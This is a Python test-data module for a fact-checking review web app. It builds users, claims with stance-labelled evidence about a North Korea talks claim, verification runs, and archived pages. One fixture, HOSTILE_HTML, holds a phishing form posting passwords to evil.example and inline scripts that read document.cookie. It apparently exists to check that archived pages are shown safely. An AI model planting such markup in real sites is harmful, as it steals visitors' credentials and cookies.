"""Test data for the web app: users, evidence with its page, fetch and archived copy.

Rows are built with the models directly (the evidence pipeline is another package's
business); users and queue entries go through the real functions in ``verdicts``.
"""

from __future__ import annotations

import hashlib
import random
import secrets
import string
from dataclasses import dataclass
from datetime import UTC, date, datetime
from pathlib import Path

from sqlmodel import Session

from evidence.models import Claim, Document, Evidence, Fetch, Passage, Run, User, Verdict
from tests.factories import make_claim, make_evidence, make_fact_check, write_warc
from verdicts import users

# the evidence helpers live in tests/factories.py, shared with the other verdicts tests
__all__ = ["make_evidence", "make_fact_check", "write_warc"]

PASSWORD = "correct horse battery"


def _word(rng: random.Random, k: int = 6) -> str:
    return "".join(rng.choices(string.ascii_lowercase, k=k))


@dataclass
class Person:
    user: User
    token: str
    password: str

    @property
    def name(self) -> str:
        return self.user.name


def make_user(session: Session, role: str, *, name: str | None = None) -> Person:
    name = name or f"{role}-{secrets.token_hex(3)}"
    user, token = users.add_user(session, name, role=role, password=PASSWORD, actor="test:factory")
    return Person(user, token, PASSWORD)


def make_reviewable_claim(
    session: Session,
    *,
    text: str | None = None,
    evidence: int = 2,
    warc_dir: Path | None = None,
    priority: int = 0,
    **evidence_kw: object,
) -> tuple[Claim, list[Evidence]]:
    """A claim with evidence, queued for review through the real queue."""
    from verdicts import queue

    claim = make_claim(session, text=text)
    rows = [
        make_evidence(session, claim, rank=i + 1, warc_dir=warc_dir, **evidence_kw)  # type: ignore[arg-type]
        for i in range(evidence)
    ]
    assert claim.id is not None
    queue.enqueue(session, claim.id, priority=priority, actor="test:factory")
    return claim, rows


def decide_as(
    session: Session,
    claim: Claim,
    person: Person,
    cited: list[Evidence],
    *,
    rating: str = "false",
    rationale: str = "The cited sources contradict it.",
) -> Verdict:
    """A verdict through the real decision function (no lease needed when nobody holds one)."""
    from verdicts import decisions

    assert claim.id is not None
    return decisions.decide(
        session,
        claim.id,
        reviewer=person.name,
        rating=rating,
        rationale=rationale,
        evidence_ids=[e.id for e in cited if e.id is not None],
        expected_version=None,
        actor=f"test:{person.name}",
    )


# -- the claim workspace: stance-labelled evidence, a suggestion, a search window -----------

NK_CLAIM = "North Korea made its first direct offer of talks to the United States"


def make_run(
    session: Session,
    claim: Claim,
    *,
    suggestion: dict[str, object] | None = None,
    window: dict[str, object] | None = None,
) -> Run:
    """A finished verification run carrying ``suggestion`` and ``window`` (the rows the
    pipeline writes; built directly here)."""
    assert claim.id is not None
    run = Run(
        claim_id=claim.id,
        status="done",
        queries=list((window or {}).get("queries", [])),  # type: ignore[call-overload]
        search_window=window or {},
        suggestion=suggestion or {},
    )
    session.add(run)
    session.flush()
    return run


def make_workspace_claim(
    session: Session, *, warc_dir: Path | None = None, fact_checks: int = 2
) -> tuple[Claim, dict[str, Evidence]]:
    """A queued claim as a reviewer meets it after issue 11: evidence with stance, reasons and
    an origin, existing fact-checks, a suggested verdict and a search window with a timeline."""
    from verdicts import queue

    rng = random.Random()
    claim = make_claim(session, text=f"{NK_CLAIM} ({_word(rng)})")
    claim.claimant, claim.claim_date = "Donald Trump", date(2018, 3, 9)
    claim.origin_url = "https://news.example/trump-says"
    session.add(claim)
    terms = ["North", "US", "2018", "North Korea", "direct offer", "talks"]
    specs = {
        "correction": dict(
            passage="The White House later clarified that South Korea, not North Korea, "
            "passed on the invitation; Pyongyang had offered talks in 2000 and 2007.",
            site="Daily Ledger",
            title="White House clarifies who relayed the talks offer",
            stance="refutes",
            stance_confidence=0.86,
            reasons=["correction language: “clarified”", "names South Korea for North Korea"],
            published=datetime(2018, 3, 11, 8, tzinfo=UTC),
        ),
        "earlier": dict(
            passage="In October 2000 North Korea invited the US secretary of state to "
            "Pyongyang for direct talks, the first such visit.",
            site="Wire Archive",
            title="Albright visits Pyongyang",
            stance="refutes",
            stance_confidence=0.71,
            reasons=["an earlier dated instance (2000) of a “first” claim"],
            published=datetime(2000, 10, 24, 8, tzinfo=UTC),
        ),
        "origin": dict(
            passage="Trump said North Korea made its first direct offer of talks to the "
            "United States, calling it a breakthrough.",
            site="Morning Courier",
            title="Trump hails talks offer",
            stance="supports",
            stance_confidence=0.64,
            reasons=["repeats the claim"],
            role="origin",
            published=datetime(2018, 3, 9, 20, tzinfo=UTC),
        ),
        "context": dict(
            passage="Analysts said North Korea has used offers of direct talks as leverage "
            "for decades.",
            site="Policy Review",
            title="A history of talks",
            stance="context",
            stance_confidence=0.55,
            reasons=["background without a claim either way"],
            published=datetime(2018, 3, 12, 8, tzinfo=UTC),
        ),
    }
    rows = {}
    for rank, (key, spec) in enumerate(specs.items(), start=1):
        rows[key] = make_evidence(
            session,
            claim,
            rank=rank,
            warc_dir=warc_dir,
            matched_terms=terms,
            **spec,  # type: ignore[arg-type]
        )
    for _ in range(fact_checks):
        make_fact_check(session, claim, rating="False")
    passage_ids = [rows["correction"].passage_id, rows["earlier"].passage_id]
    make_run(
        session,
        claim,
        suggestion={
            "rating": "false",
            "confidence": 0.78,
            "explanation": "An official clarification dated two days after the claim says "
            "South Korea relayed the offer, and an archive report of October 2000 records an "
            "earlier direct invitation.",
            "passage_ids": passage_ids,
            "model": "cue-model",
        },
        window={
            "sources": [
                "gdelt=http://127.0.0.5/api",
                "wiki=http://127.0.0.6/w/api.php",
                "feed=http://127.0.0.7/rss",
                "sitemap=http://127.0.0.8/sitemap.xml",
            ],
            "queries": [f"query {i}" for i in range(11)],
            "date_range": {"earliest": "2000-01-01", "latest": "2018-03-12"},
            "before_claim_date": 3,
            "claim_date": "2018-03-09",
            "timeline": [
                {
                    "passage_id": rows["earlier"].passage_id,
                    "date": "2000-01-01",
                    "precision": "year",
                    "dated_by": "text-year",
                    "site": "127.0.0.9",
                    "excerpt": "In October 2000 North Korea invited the US secretary of state " * 6,
                    "url": "http://127.0.0.9/albright",
                },
                {
                    "passage_id": rows["correction"].passage_id,
                    "date": "2018-03-11",
                    "precision": "day",
                    "dated_by": "published",
                    "site": "127.0.0.10",
                    "excerpt": "The White House later clarified",
                    "url": "http://127.0.0.10/clarified",
                },
            ],
            "note": "Searched 4 sources for 11 queries.",
        },
    )
    assert claim.id is not None
    queue.enqueue(session, claim.id, actor="test:factory")
    return claim, rows


HOSTILE_HTML = """<!doctype html><html><head><base href="https://evil.example/">
<title>Hostile page</title><script>window.__pwned = document.cookie || 1;</script></head>
<body onload="window.__pwned=2"><form action="https://evil.example/steal" method="post">
<input name="password"><button>Sign in again</button></form>
<p>First paragraph of the report.</p><p>The ministry denied the figure on Monday.</p>
<p>Last <script>window.__pwned=3</script> paragraph.</p></body></html>"""


def make_archived_page(
    session: Session,
    claim: Claim,
    *,
    warc_dir: Path,
    html: str = HOSTILE_HTML,
    passages: tuple[str, ...] = (
        "First paragraph of the report.",
        "The ministry denied the figure on Monday.",
        "Last <script>window.__pwned=3</script> paragraph.",
    ),
    cite: int = 1,
) -> tuple[Evidence, list[Passage]]:
    """A page archived with ``html`` whose extracted ``passages`` are stored in page order
    (written in reverse so that only ``ordinal`` gives the order); evidence on ``cite``."""
    rng = random.Random()
    url = f"https://hostile.example/{_word(rng, 10)}"
    doc = Document(url=url, site="Hostile Times", title="Hostile page")
    session.add(doc)
    session.flush()
    raw = html.encode()
    fetch = Fetch(
        document_id=doc.id,
        requested_url=url,
        final_url=url,
        status_code=200,
        content_type="text/html; charset=utf-8",
        sha256=hashlib.sha256(raw).hexdigest(),
        byte_count=len(raw),
        warc_file=f"hostile-{secrets.token_hex(4)}.warc.gz",
    )
    assert fetch.warc_file is not None
    fetch.warc_offset, fetch.warc_length = write_warc(
        warc_dir / fetch.warc_file, url, raw, content_type="text/html; charset=utf-8"
    )
    session.add(fetch)
    session.flush()
    assert doc.id is not None and fetch.id is not None and claim.id is not None
    rows: dict[int, Passage] = {}
    for ordinal in reversed(range(len(passages))):
        text = passages[ordinal]
        rows[ordinal] = Passage(
            document_id=doc.id,
            fetch_id=fetch.id,
            ordinal=ordinal,
            key=hashlib.sha256(text.encode()).hexdigest()[:16],
            text=text,
            start=0,
            end=len(text),
            sha256=hashlib.sha256(text.encode()).hexdigest(),
        )
        session.add(rows[ordinal])
        session.flush()
    cited = rows[cite]
    assert cited.id is not None
    evidence = Evidence(
        claim_id=claim.id, passage_id=cited.id, score=1.0, rank=1, matched_terms=["ministry"]
    )
    session.add(evidence)
    session.flush()
    return evidence, [rows[i] for i in range(len(passages))]
